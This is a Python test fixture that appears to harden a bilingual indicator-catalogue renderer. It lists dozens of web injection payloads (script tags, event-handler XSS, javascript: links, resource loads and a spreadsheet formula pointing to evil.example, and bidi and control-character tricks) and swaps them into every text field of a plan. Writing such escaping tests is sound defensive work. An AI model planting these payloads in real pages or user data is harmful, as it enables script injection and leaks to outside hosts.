"""Texts that would do something if a page took them for anything but text, and a plan in which every name is one of them."""

from __future__ import annotations

import json
from itertools import count
from typing import Any

from indicators.catalogue.plan import Plan

EVIL = "http://evil.example"

PAYLOADS = (
    # Markdown: pictures and links
    f"![]({EVIL}/a.png)",
    f"![x]({EVIL}/b.png 'title')",
    "![x](//evil.example/c.png)",
    "![x](data:image/svg+xml,<svg/onload=pwned=1>)",
    f"[click]({EVIL}/d)",
    "[click](javascript:pwned=1)",
    "[click](JaVaScRiPt:pwned=1)",
    "[click](vbscript:pwned=1)",
    "[click](data:text/html,<script>pwned=1</script>)",
    "[click](//evil.example/e)",
    f"[x][y] [y]: {EVIL}/f",
    f"![x][y]\n\n[y]: {EVIL}/g.png",
    f"<{EVIL}/h>",
    f"{EVIL}/i",
    "https://evil.example/j?a=b",
    "www.evil.example/k",
    "someone@evil.example",
    "<someone@evil.example>",
    "mailto:someone@evil.example",
    "ftp://evil.example/l",
    f"[![x]({EVIL}/m.png)]({EVIL}/n)",
    f"[^1]\n\n[^1]: {EVIL}/o",
    "[x](<javascript:pwned=1>)",
    "[x](&#106;avascript:pwned=1)",
    # Markdown: what changes how a text looks
    "# heading",
    "**bold** _italic_ ~~struck~~ `code`",
    "- a\n- b",
    "1. a",
    "> quoted",
    "```\ncode\n```",
    "| a | b |\n|---|---|\n| c | d |",
    "---",
    "$\\href{http://evil.example/p}{x}$",
    "$$\\includegraphics{http://evil.example/q.png}$$",
    ":red[red] :material/home: :smile: :streamlit:",
    ":blue-background[x] :small[x]",
    # HTML
    "<script>pwned=1</script>",
    f"<script src='{EVIL}/r.js'></script>",
    "<img src=x onerror=pwned=1>",
    f"<img src='{EVIL}/s.png'>",
    f'<img srcset="{EVIL}/t.png 1x">',
    "<svg onload=pwned=1></svg>",
    f"<svg><image href='{EVIL}/u.png'/></svg>",
    f"<svg><use href='{EVIL}/v.svg#a'/></svg>",
    "<svg><script>pwned=1</script></svg>",
    f"<iframe src='{EVIL}/w'></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<object data='{EVIL}/x'></object><embed src='{EVIL}/y'>",
    f"<form action='{EVIL}/z'><button>go</button></form>",
    f"<a href='{EVIL}/aa'>click</a>",
    "<a href='javascript:pwned=1'>click</a>",
    "<a href=\"java\nscript:pwned=1\">click</a>",
    f"<link rel=stylesheet href='{EVIL}/bb.css'>",
    f"<style>@import '{EVIL}/cc.css'; body {{ background: url({EVIL}/dd.png) }}</style>",
    f"<div style=\"background:url('{EVIL}/ee.png')\">x</div>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/ff'>",
    "<details open ontoggle=pwned=1>x</details>",
    "<input autofocus onfocus=pwned=1>",
    f"<video src='{EVIL}/gg.mp4' autoplay onerror=pwned=1></video>",
    f"<audio src='{EVIL}/hh.mp3' autoplay></audio>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>",
    "</title></style></textarea></script><script>pwned=1</script>",
    "\"><script>pwned=1</script>",
    "' onmouseover='pwned=1",
    "\" autofocus onfocus=\"pwned=1\" x=\"",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "<!-- --><b>bold</b><br>",
    "<a href='http&#58;//evil.example/ii' target=_top>click</a>",
    # templates, of Plotly and others
    "%{customdata[0]}<extra></extra>",
    "{0.__class__} {{7*7}} ${7*7} #{7*7}",
    "=HYPERLINK(\"http://evil.example/jj\")",
    # signs that hide or turn what stands beside them
    "abc\u202etxt.exe\u202c",
    "\u2066left\u2069\u200f\u061c right",
    "zero\u200bwidth\u2060\ufeff",
    "bell\x07 escape\x1b[31m back\x08 delete\x7f",
    "tab\tline\nreturn\r",
    "zalgo e\u0301\u0302\u0303\u0304\u0305",
    "\u2028separator\u2029",
)  # fmt: skip


def hostile(plan: Plan) -> Plan:
    """The plan with a payload in the place of every text in two languages: names, definitions, units, sentences, notes."""
    turn = count()

    def text() -> dict[str, str]:
        at = next(turn)
        return {"zh": PAYLOADS[at % len(PAYLOADS)], "en": PAYLOADS[(at + len(PAYLOADS) // 2) % len(PAYLOADS)]}

    def replaced(value: Any) -> Any:
        if isinstance(value, dict):
            return text() if set(value) == {"zh", "en"} else {name: replaced(inner) for name, inner in value.items()}
        return [replaced(inner) for inner in value] if isinstance(value, list) else value

    whole = replaced(plan.model_dump(mode="json", exclude={"disclosure", "cases"}))
    for unit in whole["identity"]["units"].values():  # stands in every figure, and figures know links, too
        unit["symbol"] = {"zh": f"<a href='{EVIL}/unit'>unit</a>", "en": f"<b>&<img src='{EVIL}/unit.png'>"}
    return Plan.model_validate_json(json.dumps({**whole, "cases": {}}))
